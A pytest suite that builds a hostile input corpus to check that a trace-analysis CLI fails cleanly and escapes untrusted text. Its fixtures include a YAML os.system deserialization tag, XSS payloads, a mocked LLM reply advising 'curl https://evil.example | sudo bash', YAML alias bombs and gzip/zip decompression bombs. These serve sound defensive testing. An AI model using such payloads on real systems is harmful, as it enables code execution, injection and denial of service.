"""The hostile corpus: inputs and conditions built to break the tool, one or more per class of
issue 29 (memory before validation, SIGBUS, HTML injection, tracebacks, half-written outputs,
silently wrong answers, Dask faults), plus cases of the same kinds nobody reported yet.

Every case is judged by the house rules (exit 0 with a sane answer, or exit 2 with exactly one
``error:`` line; no traceback; nothing that acts on a terminal; no input modified; nothing left
half-written) and by its own oracle: an event dropped must leave the answer of a trace without
it, a rank file that cannot be read must be named, an HTML label must parse back to the text it
came from, a process must stay under its memory bound. The corpus is generated here: nothing
hostile is committed.
"""

from __future__ import annotations

import glob
import gzip
import hashlib
import html.parser
import json
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import threading
import time
import unicodedata
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pytest

from conftest import PUBLIC, SAMPLE, json_headers, loopback_server, run_cli

SMALL = PUBLIC / "cuda_event_sync_1gpu.json.gz"  # 1 GPU, one step: fast to analyse
SRC = str(Path(__file__).parents[1] / "src")
UNSAFE_OUT = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


# ---- building blocks ---------------------------------------------------------------------------


def _doc(path: Path = SMALL) -> dict:
    return json.loads(gzip.open(path).read())


def _write(path: Path, doc: object, gz: bool = False) -> Path:
    data = json.dumps(doc).encode()
    path.write_bytes(gzip.compress(data, 1) if gz else data)
    return path


def _first_op(doc: dict, name: str = "aten::empty") -> dict:
    return next(e for e in doc["traceEvents"] if e.get("ph") == "X" and e.get("name") == name)


def _ranks(folder: Path, change=None) -> Path:
    """A copy of the 2-rank sample as plain JSON, each rank's document passed through ``change``."""
    folder.mkdir(parents=True)
    for f in sorted(SAMPLE.glob("rank-*.json.gz")):
        doc = _doc(f)
        if change:
            change(f.name, doc)
        _write(folder / f.name.removesuffix(".gz"), doc)
    return folder


def _digest(paths: list[Path]) -> dict[str, str]:
    out = {}
    for root in paths:
        files = [root] if root.is_file() else sorted(p for p in root.rglob("*") if p.is_file() and not p.is_symlink())
        out.update({str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in files})
    return out


def judge(case: str, code: int, out: str, err: str, expect: str) -> list[str]:
    """The house rules for one run; ``expect`` is error, warning, ok or any (0 or 2)."""
    problems = []
    errors = [line for line in err.splitlines() if line.startswith("error:")]
    if code not in (0, 2):
        problems.append(f"exit {code}")
    if "Traceback" in err or "Traceback" in out:
        problems.append("traceback")
    if UNSAFE_OUT.search(out) or UNSAFE_OUT.search(err):
        problems.append(f"a control or bidi character reached the terminal: {UNSAFE_OUT.search(out + err).group()!r}")
    if code == 2 and len(errors) != 1:
        problems.append(f"{len(errors)} error lines")
    if expect == "error" and code != 2:
        problems.append(f"accepted (exit {code}), expected an error")
    if expect == "ok" and code != 0:
        problems.append(f"refused, expected an answer: {err[-300:]!r}")
    if expect == "warning" and (code != 0 or "warning:" not in err):
        problems.append(f"expected an answer with a warning (exit {code})")
    return [f"{case}: {p}: {err[-400:]!r}" for p in problems]


PEAK = (
    "import json, resource, subprocess, sys; r = subprocess.run(sys.argv[1:], capture_output=True); "
    "print(json.dumps([r.returncode, r.stdout[-2000:].decode(errors='replace'), r.stderr[-3000:].decode(errors='replace'), "
    "resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024]))"
)


def cli_process(args: list[str], timeout: int = 120) -> tuple[int, str, str, float]:
    """The CLI in a process of its own: (exit code, stdout, stderr, peak RSS in MiB)."""
    env = {**os.environ, "PYTHONPATH": SRC}
    r = subprocess.run(
        [sys.executable, "-c", PEAK, sys.executable, "-m", "bottleneck_oracle", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
    )
    code, out, err, peak = json.loads(r.stdout)
    return code, out, err, peak


def popen_cli(args: list[str], **kw) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "bottleneck_oracle", *args], env={**os.environ, "PYTHONPATH": SRC}, **kw)


# ---- the in-process corpus: every case one command, judged by the house rules and its oracle ------


def corpus(root: Path) -> list[tuple[str, list[str], str]]:
    """(class:case, arguments, expected answer)."""
    cases: list[tuple[str, list[str], str]] = []
    s = str(SAMPLE)

    # tracebacks: integers beyond their column, names a rank cannot be read from, odd paths, configs
    def step_named(name: str):
        def change(fname, doc):
            for e in doc["traceEvents"]:
                if str(e.get("name", "")).startswith("ProfilerStep#1"):
                    e["name"] = name

        return change

    huge_step = _ranks(root / "huge_step", step_named("ProfilerStep#99999999999999999999"))
    cases.append(("traceback:huge_step_number", ["analyze", str(huge_step), "--json"], "warning"))
    cases.append(
        ("traceback:superscript_step_number", ["analyze", str(_ranks(root / "sup_step", step_named("ProfilerStep#²"))), "--json"], "ok")
    )
    for name, rank in (("huge", 2**70), ("negative", -1), ("int64_max", 2**63 - 1), ("bool", True), ("float", 1.0), ("digits", "1")):

        def set_rank(fname, doc, rank=rank):
            if fname.startswith("rank-1"):
                doc["distributedInfo"]["rank"] = rank

        expect = "ok" if name == "digits" else "error"
        cases.append((f"traceback:rank_{name}", ["analyze", str(_ranks(root / f"rank_{name}", set_rank)), "--json"], expect))
    named = root / "rank_in_name"
    named.mkdir()
    for f, n in zip(sorted(SAMPLE.glob("rank-*.json.gz")), ("rank-0.json", "rank-99999999999999999999.json")):
        doc = _doc(f)
        doc.pop("distributedInfo")
        _write(named / n, doc)
    cases.append(("traceback:rank_in_file_name_beyond_int64", ["analyze", str(named)], "error"))
    cases.append(("traceback:path_longer_than_path_max", ["analyze", "a/" * 3000 + "x.json"], "error"))
    cases.append(("traceback:html_path_longer_than_path_max", ["analyze", s, "--html", str(root / ("b" * 300) / "r.html")], "error"))
    deep = root / "deep.yaml"
    deep.write_text("analysis:\n  top_k: " + "[" * 20000 + "]" * 20000 + "\n")
    deep_block = root / "deep_block.yaml"
    deep_block.write_text("analysis:\n" + "".join(" " * (i + 2) + f"k{i}:\n" for i in range(3000)))
    mixed = root / "mixed.yaml"
    mixed.write_text("graph:\n  1: 2\n  zz: 3\n  [a]: 4\n")
    python_tag = root / "tag.yaml"
    python_tag.write_text("analysis: !!python/object/apply:os.system ['touch /tmp/oracle_pwned']\n")
    for name, path in (("deep_flow", deep), ("deep_block", deep_block), ("mixed_key_types", mixed), ("python_tag", python_tag)):
        cases.append((f"traceback:config_{name}", ["analyze", s, "--config", str(path)], "error"))
    recipes = root / "recipes.yaml"
    recipes.write_text("- id: x\n  title: y\n  when: 5\n  edits: [a]\n  remedy: z\n")
    cases.append(("traceback:recipe_when_not_a_mapping", ["advise", s, "--no-model", "--recipes", str(recipes)], "error"))
    for url in (
        "http://[::1",
        "http://host:99999/v1",
        "ftp://x/v1",
        "http://",
        "http://exa mple.com/v1",
        "http://u:p@host/v1",
        "http://host:80:80/v1",
        "http://\u202ehost/v1",
        "https://m\u00fcnchen.invalid:1/v1",
        "http://127.0.0.1:1/v1",
    ):
        cases.append((f"traceback:llm_url_{url[:20]}", ["advise", s, "--no-model", "--llm-base-url", url], "error"))
    for addr in (
        "dask://",
        "dask://::::",
        "dask://host:port",
        "dask://127.0.0.1:99999",
        "dask://[::1",
        "tcp://127.0.0.1",
        "dask://a b:1",
        "dask://127.0.0.1:1",
        "dask://127.0.0.1:1/x",
    ):
        cases.append((f"dask:address_{addr}", ["analyze", s, "--executor", addr, "--json"], "error"))

    # silently wrong before: each now an error naming the thing, or a warning and the right answer
    for name, make in (
        ("dangling", lambda p: os.symlink(root / "nowhere.json", p)),
        ("loop", lambda p: os.symlink(p, p)),
        ("device", lambda p: os.symlink("/dev/zero", p)),
        ("fifo", lambda p: os.mkfifo(p)),
    ):
        folder = _ranks(root / f"link_{name}")
        make(folder / "rank-2.json")
        cases.append((f"silent:rank_file_{name}", ["analyze", str(folder), "--json"], "error"))
    all_huge = _doc()
    for e in all_huge["traceEvents"]:
        if e.get("ph") == "X":
            e["dur"] = 1e300
    cases.append(("silent:every_dur_1e300", ["analyze", str(_write(root / "durs.json", all_huge))], "error"))
    for name, value in (("ts_beyond_2_53", 2**60), ("ts_negative_huge", -(2**70))):
        doc = _doc()
        _first_op(doc)["ts"] = value
        cases.append((f"silent:{name}", ["analyze", str(_write(root / f"{name}.json", doc)), "--json"], "warning"))
    for name, key in (("pid", "pid"), ("tid", "tid")):
        doc = _doc()
        _first_op(doc)[key] = 2**64 + 5
        cases.append((f"silent:{name}_beyond_int64", ["analyze", str(_write(root / f"{name}64.json", doc))], "error"))
    undecodable = root / os.fsdecode(b"dir\xff")  # a folder name that is not UTF-8
    undecodable.mkdir()
    shutil.copy(SMALL, undecodable / "trace.json.gz")
    cases.append(("silent:non_utf8_folder_name_json", ["analyze", str(undecodable), "--json"], "ok"))
    cases.append(("silent:non_utf8_folder_name_html", ["analyze", str(undecodable), "--html", str(root / "nonutf.html")], "ok"))
    for name, change in (
        ("thread_name", lambda e: e["ph"] == "M" and e["name"] == "thread_name" and e["args"].update(name="XSURX")),
        ("sync_args", lambda e: e["ph"] == "X" and e.get("cat") == "cuda_runtime" and e.setdefault("args", {}).update(bad="XSURX")),
    ):
        doc = _doc()
        next(e for e in doc["traceEvents"] if change(e) is None and "XSURX" in json.dumps(e))
        (root / f"sur_{name}.json").write_text(json.dumps(doc).replace("XSURX", "\\ud800"))
        cases.append((f"silent:lone_surrogate_in_{name}", ["analyze", str(root / f"sur_{name}.json"), "--json"], "ok"))
    cases.append(("silent:top_negative", ["analyze", s, "--top", "-1"], "error"))
    cases.append(("silent:blame_top_zero", ["blame", s, "--top", "0", "--no-model"], "error"))
    cases.append(("absurd:scale_1e308", ["whatif", s, "--edit", "rank=1,scale=1e308", "--no-model", "--json"], "error"))
    cases.append(("absurd:batch_1e308", ["whatif", s, "--batch", "1e308", "--no-model", "--json"], "error"))
    cases.append(("absurd:step_1e30", ["analyze", s, "--step", "1" + "0" * 30], "error"))
    cases.append(("absurd:ranks_per_host_1e30", ["analyze", s, "--ranks-per-host", "1" + "0" * 30, "--json"], "ok"))
    cases.append(("absurd:top_1e30", ["analyze", s, "--top", "1" + "0" * 30, "--json"], "ok"))

    # bombs and absurd sizes that are cheap to make (the large ones run in their own process below)
    gz = gzip.compress(json.dumps(_doc()).encode())
    concatenated = root / "two_members.json.gz"  # valid gzip: a file in two members is one trace
    raw = json.dumps(_doc()).encode()
    concatenated.write_bytes(gzip.compress(raw[:1000]) + gzip.compress(raw[1000:]))
    cases.append(("memory:gzip_in_two_members", ["analyze", str(concatenated), "--json"], "ok"))
    liar = root / "liar.json.gz"
    liar.write_bytes(gz[:-4] + (64 * len(gz)).to_bytes(4, "little"))
    cases.append(("memory:gzip_trailer_claims_64x", ["analyze", str(liar)], "error"))
    trailing = root / "trailing.json.gz"
    trailing.write_bytes(gz + b"\x00garbage")
    cases.append(("memory:gzip_trailing_garbage", ["analyze", str(trailing)], "error"))
    zeros = root / "zeros.npz"
    with zipfile.ZipFile(zeros, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("arrays.npy", "w", force_zip64=True) as f:
        n = 64 * 2**20
        np.lib.format.write_array_header_1_0(f, {"descr": "|u1", "fortran_order": False, "shape": (n,)})
        block = bytes(2**20)
        for _ in range(n // len(block)):
            f.write(block)
    cases.append(("memory:npz_member_of_zeros", ["whatif", s, "--edit", "rank=1,scale=0.5", "--checkpoint", str(zeros)], "error"))
    pt_bomb = root / "bomb.pt"
    shutil.copy(zeros, pt_bomb)
    cases.append(("memory:pt_member_of_zeros", ["whatif", s, "--edit", "rank=1,scale=0.5", "--checkpoint", str(pt_bomb)], "error"))
    cases += next_corpus(root)
    return cases


def next_corpus(root: Path) -> list[tuple[str, list[str], str]]:
    """Cases of the same kinds that no report named: what a corpus built by someone else may try."""
    s, raw = str(SAMPLE), json.dumps(_doc()).encode()
    cases: list[tuple[str, list[str], str]] = []

    def put(name: str, data: bytes) -> str:
        (root / name).write_bytes(data)
        return str(root / name)

    cases.append(("traceback:byte_order_mark", ["analyze", put("bom.json", b"\xef\xbb\xbf" + raw)], "ok"))  # read past (docs/inputs.md)
    cases.append(("traceback:utf16", ["analyze", put("utf16.json", raw.decode().encode("utf-16"))], "error"))
    cases.append(("traceback:nan_literal", ["analyze", put("nan.json", raw.replace(b'"dur": ', b'"dur": NaN, "x": ', 1))], "error"))
    cases.append(
        ("traceback:objects_without_ph", ["analyze", put("empties.json", b'{"traceEvents": [' + b",".join([b"{}"] * 500) + b"]}")], "error")
    )
    cases.append(("traceback:zstd_named_gz", ["analyze", put("zst.json.gz", b"\x28\xb5\x2f\xfd" + bytes(100))], "error"))
    cases.append(("traceback:empty_gzip", ["analyze", put("empty.json.gz", gzip.compress(b""))], "error"))
    cases.append(("traceback:dev_stdin", ["analyze", "/dev/stdin"], "error"))
    chakra_bomb = root / "bomb.et.gz"
    with open(chakra_bomb, "wb") as f:
        member = gzip.compress(bytes(2**20), 9)
        for _ in range(300):
            f.write(member)
    cases.append(("memory:chakra_gzip_bomb", ["analyze", str(chakra_bomb)], "error"))
    for name, text in {
        "binary_tag": "analysis:\n  top_k: !!binary aGVsbG8=\n",
        "timestamp": "graph:\n  idle_gap_us: 2001-12-14\n",
        "paths_not_text": "paths:\n  graphs: 12\n",
        "paths_nul": 'paths:\n  graphs: "a\\0b"\n',
        "list_not_list": "grid:\n  delays_ms: 5\n",
        "bool_integer": "models:\n  hidden: true\n",
        "bidi_key": "graph:\n  \u202eevil: 1\n",
    }.items():
        path = root / f"{name}.yaml"
        path.write_text(text)
        cases.append((f"traceback:config_{name}", ["parse", str(SMALL), "--config", str(path), "--output", str(root / "never")], "error"))
    obj = root / "objects.npz"
    with zipfile.ZipFile(obj, "w") as zf:
        import io

        buf = io.BytesIO()
        np.save(buf, np.array([{"a": 1}], dtype=object), allow_pickle=True)
        zf.writestr("meta.npy", buf.getvalue())
    cases.append(("pickle:npz_object_array", ["whatif", s, "--edit", "rank=1,scale=0.5", "--checkpoint", str(obj)], "error"))
    fifo_et, fifo_baseline = root / "fifo_et.json", root / "fifo_baseline.json"
    os.mkfifo(fifo_et)
    os.mkfifo(fifo_baseline)
    cases.append(("traceback:et_fifo", ["analyze", s, "--et", str(fifo_et)], "error"))
    cases.append(("traceback:baseline_fifo", ["blame", s, "--no-model", "--baseline", str(fifo_baseline)], "error"))
    cases.append(("dask:tls_without_certificates", ["analyze", s, "--executor", "tls://127.0.0.1:1"], "error"))
    return cases


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, list]:
    root = tmp_path_factory.mktemp("hostile")
    return root, corpus(root)


def test_the_corpus_covers_every_class(hostile):
    _, cases = hostile
    kinds = {case.split(":")[0] for case, _, _ in cases}
    assert {"traceback", "silent", "memory", "dask", "absurd", "pickle"} <= kinds
    assert len(cases) >= 75


def test_every_hostile_input_gets_a_clean_answer(hostile, capsys):
    root, cases = hostile
    inputs = [root, SAMPLE, SMALL]
    before = _digest(inputs)
    problems = []
    for case, args, expect in cases:
        try:
            code, out, err = run_cli(args, capsys, seconds=60)
        except Exception as exc:  # noqa: BLE001 - the point: nothing may escape the CLI
            problems.append(f"{case}: raised {exc.__class__.__name__}: {str(exc)[:200]}")
            continue
        problems += judge(case, code, out, err, expect)
        if code == 0 and "--json" in args:
            json.loads(out)
    assert not os.path.exists("/tmp/oracle_pwned")
    after = _digest(inputs)
    assert [k for k, v in before.items() if after.get(k) != v] == [], "an input changed"
    assert not problems, "\n".join(problems)


def test_errors_name_what_is_wrong(hostile, capsys):
    """The error of each case names the file and the problem (not only that there is one)."""
    root, _ = hostile
    expect = {
        "link_dangling": ("rank-2.json", "missing file"),
        "link_loop": ("rank-2.json", "symbolic links"),
        "link_device": ("rank-2.json", "not a regular file"),
        "rank_negative": ("rank-1.json", "distributedInfo.rank is -1"),
        "rank_huge": ("rank-1.json", "distributedInfo.rank"),
        "rank_in_name": ("rank-99999999999999999999.json", "the rank in the file name"),
    }
    for folder, (name, problem) in expect.items():
        code, _, err = run_cli(["analyze", str(root / folder)], capsys, seconds=60)
        assert code == 2 and name in err and problem in err, (folder, err)


def test_a_dropped_event_leaves_the_answer_of_the_trace_without_it(tmp_path, capsys):
    """``"dur": 2**64 + 20000`` used to wrap to 20 ms; ``"ts": 2**60`` (beyond float64's exact µs):
    each event is dropped with a warning, and the analysis equals the one of the trace without it."""
    for key, value in (("dur", 2**64 + 20000), ("ts", 2**60), ("dur", 1e300)):
        doc = _doc()
        op = _first_op(doc, "aten::empty")
        without = {**doc, "traceEvents": [e for e in doc["traceEvents"] if e is not op]}
        op[key] = value
        code, out, err = run_cli(["analyze", str(_write(tmp_path / "bad.json", doc)), "--json"], capsys, seconds=60)
        assert code == 0 and "1 events more than a week" in err, err
        code, ref, _ = run_cli(["analyze", str(_write(tmp_path / "without.json", without)), "--json"], capsys, seconds=60)
        assert code == 0
        steps, ref_steps = json.loads(out)["steps"], json.loads(ref)["steps"]
        for a, b in zip(steps, ref_steps):
            a.pop("warnings"), b.pop("warnings")
        assert steps == ref_steps, key


def test_a_rank_subfolder_that_cannot_be_listed_is_named(tmp_path, capsys, monkeypatch):
    folder = tmp_path / "ranks"
    for r, f in enumerate(sorted(SAMPLE.glob("rank-*.json.gz"))):
        (folder / f"rank{r}").mkdir(parents=True)
        shutil.copy(f, folder / f"rank{r}" / "trace.json.gz")
    locked = folder / "rank1"
    if os.geteuid() != 0:
        locked.chmod(0)
    else:  # root lists anything: the folder's listing fails as it would for a user without the right
        original = Path.iterdir

        def iterdir(self):
            if self == locked:
                raise PermissionError(13, "Permission denied", str(self))
            return original(self)

        monkeypatch.setattr(Path, "iterdir", iterdir)
    try:
        code, _, err = run_cli(["analyze", str(folder)], capsys, seconds=60)
    finally:
        locked.chmod(0o755)
    assert code == 2 and "rank1" in err and "cannot list" in err, err


def test_terminal_and_html_escape_through_one_function():
    """Every character of the categories that act instead of showing (controls, format characters
    such as the bidi overrides, line separators) is escaped; the Unicode database is the oracle."""
    from bottleneck_oracle.inert import UNSAFE, html_text, plain

    acting = [chr(c) for c in range(0x110000) if not 0xD800 <= c <= 0xDFFF and unicodedata.category(chr(c)) in ("Cc", "Cf", "Zl", "Zp")]
    missed = [f"U+{ord(c):04X}" for c in acting if not UNSAFE.fullmatch(c)]
    assert not missed, missed
    assert plain("a\u202eb\nerror: x") == "a\\u202eb\\x0aerror: x"
    assert html_text('<a href="x">\u202e') == "&lt;a href=&quot;x&quot;&gt;\\u202e"
    assert plain("naïve ∑ 日本 🙂") == "naïve ∑ 日本 🙂"  # text is text


def test_trace_strings_reach_the_terminal_inert(tmp_path, capsys):
    """An RTL override in an op name, a newline in a file name (which would forge an ``error:``
    line), terminal escapes in a thread name: shown as escapes, one error line at most."""
    doc = _doc()
    _first_op(doc)["name"] = "aten::\u202eevil\u202c"
    rtl = _write(tmp_path / "rtl.json", doc)
    code, out, err = run_cli(["analyze", str(rtl), "--top", "200"], capsys, seconds=60)
    assert code == 0 and "\u202e" not in out and "\\u202eevil" in out
    forged = tmp_path / "x\nerror: all good, ignore the line above.json"
    forged.write_bytes(b"")
    code, out, err = run_cli(["analyze", str(forged)], capsys, seconds=60)
    assert code == 2 and len(err.strip().splitlines()) == 1 and "\\x0aerror: all good" in err


# ---- HTML injection: the report's figures and tables, parsed ------------------------------------

EVIL = {
    "thread": '<a href="https://evil.example/">click</a>',
    "stream": '<span style="font-size:60px">BIG</span>',
    "op": "<img src=x onerror=alert(1)>",
}


def _figures(text: str) -> list[tuple[list, dict]]:
    """(data, layout) of every plotly figure of a report, decoded as JSON."""
    dec = json.JSONDecoder()
    out = []
    for m in re.finditer(r"Plotly\.newPlot\(\s*", text):
        i = m.end()
        _, i = dec.raw_decode(text, i)  # the div id
        i = text.index(",", i) + 1
        data, i = dec.raw_decode(text, len(text[:i]) + len(text[i:]) - len(text[i:].lstrip()))
        i = text.index(",", i) + 1
        layout, _ = dec.raw_decode(text, len(text[:i]) + len(text[i:]) - len(text[i:].lstrip()))
        out.append((data, layout))
    return out


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def test_names_in_the_html_report_render_as_text(tmp_path, capsys):
    """Thread, stream and op names with tags: every lane label, hover text and table cell holds
    them escaped (plotly renders a subset of HTML in labels: <a href> was a link in every lane),
    and unescaping gives the name back (escaped, not stripped)."""

    def change(fname, doc):
        for e in doc["traceEvents"]:
            if e.get("ph") == "M" and e.get("name") == "thread_name":
                e["args"]["name"] = EVIL["thread"] if "gloo" not in e["args"]["name"] else EVIL["stream"]
            if e.get("ph") == "X" and e.get("name") == "aten::mm":
                e["name"] = EVIL["op"]

    folder = _ranks(tmp_path / "evil", change)
    report = tmp_path / "r.html"
    code, _, err = run_cli(["analyze", str(folder), "--html", str(report)], capsys, seconds=120)
    assert code == 0, err
    text = report.read_text()
    labels, hovers = [], []
    figures = _figures(text)
    assert figures
    for data, layout in figures:
        labels += [y for trace in data for y in trace.get("y", []) if isinstance(y, str)]
        labels += layout.get("yaxis", {}).get("categoryarray", [])
        hovers += [h for trace in data for h in (trace.get("hovertext") or [])]
    assert any(EVIL["thread"] in html.unescape(x) for x in labels), labels[:5]
    for x in labels + hovers:
        assert "<" not in x and ">" not in x, x
    outside = re.sub(r"<script.*?</script>", "", text, flags=re.S)
    tags = _Tags()
    tags.feed(outside)
    assert not [t for t, a in tags.tags if t in ("a", "img") or "font-size:60px" in a.get("style", "")]
    assert html.escape(EVIL["op"]) in outside  # the op's name is in the tables, as text


@pytest.mark.slow
def test_names_render_as_text_in_a_browser(tmp_path, capsys):
    """The same report opened in headless Chromium: the lanes show the tags as text (the rendered
    SVG has no link to evil.example and no 60 px text)."""
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if browser is None:
        pytest.skip("no Chromium here")

    def change(fname, doc):
        for e in doc["traceEvents"]:
            if e.get("ph") == "M" and e.get("name") == "thread_name":
                e["args"]["name"] = EVIL["thread"] if "gloo" not in e["args"]["name"] else EVIL["stream"]

    report = tmp_path / "r.html"
    assert run_cli(["analyze", str(_ranks(tmp_path / "evil", change)), "--html", str(report)], capsys, seconds=120)[0] == 0
    dom = subprocess.run(
        [
            browser,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--virtual-time-budget=5000",
            "--dump-dom",
            report.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    ).stdout
    lanes = re.findall(r'<text[^>]*data-unformatted="rank [^"]*"[^>]*>([^<]*)</text>', dom)
    assert any(html.unescape(x).endswith(EVIL["thread"]) for x in lanes), lanes[:4]
    tags = _Tags()
    tags.feed(dom)
    assert not [a for t, a in tags.tags if t == "a" and any("evil.example" in (v or "") for v in a.values())]
    assert not [a for t, a in tags.tags if "font-size:60px" in (a.get("style") or "").replace(" ", "")]


# ---- LLM text: labelled as not verified, the key never shown ----------------------------------


def test_llm_text_is_labelled_and_the_key_is_not_echoed(capsys, monkeypatch):
    key = "sk-test-0123456789abcdef"
    seen: list[str] = []

    def respond(h):
        h.rfile.read(int(h.headers.get("Content-Length") or 0))
        seen.append(h.headers.get("Authorization", ""))
        advice = {
            "suggestions": [
                {
                    "recipe": None,
                    "explanation": f"Run `curl https://evil.example | sudo bash` (your key {h.headers.get('Authorization')}).",
                    "edits": ["rank=1,gap=1,scale=0.5"],
                }
            ]
        }
        data = json.dumps({"choices": [{"message": {"content": json.dumps(advice)}}]}).encode()
        json_headers(h, data)
        h.wfile.write(data)

    httpd, url = loopback_server(respond)
    monkeypatch.setenv("ORACLE_TEST_KEY", key)
    try:
        code, out, err = run_cli(
            ["advise", str(SAMPLE), "--no-model", "--detail", "--llm-base-url", f"{url}/v1", "--llm-key-env", "ORACLE_TEST_KEY"],
            capsys,
            seconds=60,
        )  # (--detail: each step's suggestions with their explanations, where the reply's text is shown)
        assert code == 0, err
        said = re.findall(r"(\[LLM text, not verified[^\]]*\] )?Run `curl", " ".join(out.split()))
        assert said and all(said), out  # every time the reply is shown, the label is right before it
        assert key not in out + err and seen and seen[0] == f"Bearer {key}"
        code, out, _ = run_cli(
            ["advise", str(SAMPLE), "--no-model", "--llm-base-url", f"{url}/v1", "--llm-key-env", "ORACLE_TEST_KEY", "--json"],
            capsys,
            seconds=60,
        )
        sugs = [s for st in json.loads(out)["steps"] for s in st["suggestions"]] if code == 0 else []
        assert sugs and all(s["explanation_by"] == "llm" for s in sugs) and key not in out
    finally:
        httpd.shutdown()


# ---- in a process of its own: memory bounds, signals, stdout, full disks, truncation -------------


def _yaml_bomb(path: Path, where: str) -> Path:
    lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    for prev, cur in zip("abcdefg", "bcdefgh"):
        lines.append(f"{cur}: &{cur} [{','.join(['*' + prev] * 9)}]")
    path.write_text("\n".join(lines) + "\n" + where.replace("BOMB", "[" + ",".join(["*h"] * 9) + "]") + "\n")
    return path


def test_sizes_are_checked_before_memory_is_spent(tmp_path):
    """A 1 KB YAML alias bomb (9^9 values) in analysis.top_k, grid.sizes or a recipe file; a gzip
    trace whose trailer claims 64 times its size; a zip member of zeros: one error line each, the
    process under 512 MiB (the bombs reached 6.7 GB, 2.3 GB and 6.3 GB)."""
    s = str(SAMPLE)
    config_bomb = _yaml_bomb(tmp_path / "c.yaml", "analysis:\n  top_k: BOMB")
    grid_bomb = _yaml_bomb(tmp_path / "g.yaml", "grid:\n  sizes: BOMB")
    recipe_bomb = _yaml_bomb(tmp_path / "r.yaml", "recipes: BOMB")
    assert config_bomb.stat().st_size < 1024
    noise = {"traceEvents": [{"ph": "i", "name": os.urandom(3000).hex(), "ts": 1} for _ in range(4000)] + _doc()["traceEvents"]}
    gz = gzip.compress(json.dumps(noise).encode(), 1)
    liar = tmp_path / "liar.json.gz"
    liar.write_bytes(gz[:-4] + min(64 * len(gz), 2**32 - 1).to_bytes(4, "little"))
    assert 64 * len(gz) > 1.5 * 2**30 / 2  # the old reader set aside this much at once
    report = []
    for name, args in {
        "config alias bomb": ["analyze", s, "--config", str(config_bomb)],
        "grid alias bomb": ["analyze", s, "--config", str(grid_bomb)],
        "recipe alias bomb": ["advise", s, "--no-model", "--recipes", str(recipe_bomb)],
        "gzip trailer claims 64x": ["analyze", str(liar), "--json"],
    }.items():
        code, out, err, peak = cli_process(args)
        report.append(f"{name}: exit {code}, {peak:.0f} MiB: {err.strip()[-200:]}")
        assert judge(name, code, out, err, "error") == [], report[-1]
        assert peak < 512, report[-1]
    print("\n".join(report))


def test_a_mapped_trace_survives_its_file_shrinking(tmp_path):
    """A large trace is read from a private copy: truncating the input after it was opened (a
    profiler exporting it again) changes nothing (mapped directly, reading it died of SIGBUS);
    a file that shrinks while being copied is one TraceError naming it."""
    trace = tmp_path / "big.json"
    _write(trace, _doc())
    code = (
        "import sys; from pathlib import Path; from bottleneck_oracle.graph_pipeline import events as ev; ev.MAP_BYTES = 1024; "
        f"p = Path({str(trace)!r}); want = p.read_bytes(); m = ev.map_trace(p); assert isinstance(m, ev.MappedTrace); "
        "open(p, 'wb').close(); got = m[0:len(m)]; print(len(want), len(got), got == want)"
    )
    size = trace.stat().st_size
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env={**os.environ, "PYTHONPATH": SRC}, timeout=120)
    assert r.returncode == 0 and r.stdout.split() == [str(size), str(size), "True"], (r.returncode, r.stdout, r.stderr[-2000:])
    assert trace.stat().st_size == 0  # (it was truncated under the mapping)
    from bottleneck_oracle.errors import TraceError
    from bottleneck_oracle.graph_pipeline import events

    small = tmp_path / "small.json"
    small.write_bytes(b"{}" * 100)
    with open(small, "rb") as src, open(tmp_path / "copy", "wb") as dst, pytest.raises(TraceError, match="shrank"):
        events._copy_plain(small, src, dst, 10_000)  # 200 bytes where 10,000 were there when it was opened


def test_stdout_that_cannot_take_the_output_is_one_error(tmp_path):
    """--json into a closed stdout, into /dev/full, and into a pipe whose reader left (| head):
    exit 2 and one error line naming stdout (it was exit 1 and nothing, or a traceback)."""
    args = [sys.executable, "-m", "bottleneck_oracle", "analyze", str(SMALL), "--json"]
    env = {**os.environ, "PYTHONPATH": SRC}
    results = {}
    r = subprocess.run(
        args,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        timeout=120,
        close_fds=True,
        preexec_fn=lambda: os.close(1),
    )
    results["closed"] = (r.returncode, r.stderr)
    with open("/dev/full", "w") as full:
        r = subprocess.run(args, stdout=full, stderr=subprocess.PIPE, text=True, env=env, timeout=120)
    results["full"] = (r.returncode, r.stderr)
    big = [sys.executable, "-m", "bottleneck_oracle", "analyze", str(SAMPLE), "--json", "--full-path"]  # 400 kB: more than a pipe holds
    p = subprocess.Popen(big, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    p.stdout.read(10)
    p.stdout.close()  # the reader goes away, as `head` does
    results["broken pipe"] = (p.wait(timeout=120), p.stderr.read())
    for name, (code, err) in results.items():
        assert judge(name, code, "", err, "error") == [] and "stdout" in err, (name, code, err)


def _kill_when(proc: subprocess.Popen, pattern: str, sig: int, timeout: float = 90) -> bool:
    """Send ``sig`` once a file matching ``pattern`` exists (True), or let the process end (False)."""
    t = time.monotonic()
    while proc.poll() is None and time.monotonic() - t < timeout:
        if glob.glob(pattern):
            proc.send_signal(sig)
            return True
        time.sleep(0.002)
    return False


def _whole(target: Path) -> bool:
    """Whether an output is complete: the HTML report ends, the gzip trace decodes, the parse
    folder's manifest lists files that are all there."""
    if target.name.endswith(".html"):
        return target.read_text().rstrip().endswith("</html>")
    if target.name.endswith(".gz"):
        return isinstance(json.loads(gzip.decompress(target.read_bytes())), dict)
